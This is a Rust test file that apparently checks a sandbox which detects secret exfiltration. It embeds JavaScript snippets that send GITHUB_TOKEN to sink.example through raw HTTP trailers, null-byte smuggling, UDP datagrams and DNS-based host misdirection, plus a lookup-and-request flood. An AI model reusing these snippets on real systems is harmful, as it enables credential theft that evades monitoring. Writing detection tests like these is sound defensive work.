//! A script that sends what it has stolen in ways that no parser looks at, says that it is
//! somewhere else, or makes more of everything than a report can hold.

use crate::escape::rig::{attack, evil};

/// The value of GITHUB_TOKEN, which is not a registry's, in a place that is no part of a request.
const SEND: &str = "const net = require('net');\n\
    const token = process.env.GITHUB_TOKEN;\n\
    const send = (host, text) => new Promise((done) => {\n\
      const socket = net.connect({ host, port: 80 });\n\
      socket.on('error', done).on('close', done).on('data', () => {});\n\
      socket.end(text);\n\
    });\n";

#[test]
fn what_stands_where_no_parser_looks_has_left() {
    for text in [
        "`POST /x HTTP/1.1\\r\\nHost: a\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nx: ${token}\\r\\n\\r\\n`",
        "`GET / HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n\\0${token}`",
    ] {
        let attacked = attack(
            &evil(&format!("{SEND}send('sink.example', {text});")),
            &["--scenario", "baseline"],
            |project| project,
        );
        assert_eq!(attacked.run("baseline")["verdict"], "leaked", "{text}");
        attacked.found(&["secret-exfiltrated"]);
    }
}

#[test]
fn datagrams_that_nobody_reads_are_said() {
    let script = "const socket = require('dgram').createSocket('udp4');\n\
        socket.send(process.env.GITHUB_TOKEN, 443, 'sink.example', () => socket.close());";
    let attacked = attack(&evil(script), &["--scenario", "baseline"], |project| project);
    let run = attacked.run("baseline");
    assert_eq!(
        (run["exit_code"].as_i64(), run["verdict"].as_str()),
        (Some(0), Some("unobserved")),
        "{run:#}"
    );
    assert!(run["because"].to_string().contains("datagrams"), "{}", run["because"]);
    assert_eq!(attacked.outcome.status, Some(3));
}

/// Neither many names nor a false one make an address another host's.
#[test]
fn a_host_is_where_its_address_is() {
    let script = format!(
        "{SEND}const dns = require('dns').promises;\n\
        (async () => {{\n\
          for (let at = 0; at < 70; at++) await dns.lookup(`n${{at}}.example`).catch(() => {{}});\n\
          await dns.lookup('late.example').then(() => console.log('it has an address'), () => {{}});\n\
          await send('n5.example', `GET / HTTP/1.1\\r\\nHost: api.github.com\\r\\nAuthorization: Bearer ${{token}}\\r\\n\\r\\n`);\n\
        }})();"
    );
    let attacked = attack(&evil(&script), &["--scenario", "baseline"], |project| project);
    let run = attacked.run("baseline");
    assert_eq!(run["verdict"], "leaked", "{run:#}");
    let exchanges = run["exchanges"].as_array().unwrap();
    assert!(exchanges.iter().all(|exchange| exchange["host"] != "api.github.com"), "{exchanges:#?}");
    let stolen = exchanges.iter().find(|exchange| exchange["carried_secret"] == "GITHUB_TOKEN").unwrap();
    assert_eq!(stolen["host"], "n5.example");
    assert!(!run["output"].to_string().contains("it has an address"));
    let lookups = run["lookups"].as_array().unwrap();
    assert!(lookups.iter().any(|lookup| lookup["answer"].to_string().contains("no address is left")));
}

#[test]
fn a_flood_of_look_ups_and_requests_leaves_a_report_that_can_be_read() {
    let script = "const dns = require('dns').promises;\n\
        const http = require('http');\n\
        const agent = new http.Agent({ keepAlive: true, maxSockets: 32 });\n\
        const ask = (at) => new Promise((done) => http.get(\n\
          { host: 'n1.example', path: `/${at}/${'p'.repeat(4000)}`, agent },\n\
          (answer) => answer.resume().on('end', done)).on('error', done));\n\
        (async () => {\n\
          for (let at = 0; at < 8000; at += 100) {\n\
            const all = Array.from({ length: 100 }, (_, one) => at + one);\n\
            await Promise.all(all.map((one) => dns.resolve4(`n${one}.example`).catch(() => {})));\n\
            if (at < 4000) await Promise.all(all.map(ask));\n\
          }\n\
          process.exit(0);\n\
        })();";
    let attacked = attack(&evil(script), &["--scenario", "baseline"], |project| project);
    let size = attacked.outcome.report.to_string().len();
    assert!(size < 5 << 20, "a report of {} KiB for one run", size >> 10);
    let findings = attacked.outcome.report["findings"].as_array().unwrap().len();
    assert!(findings < 200, "{findings} findings");
    assert_eq!(attacked.run("baseline")["verdict"], "unobserved");
    assert_eq!(attacked.outcome.status, Some(3));
}
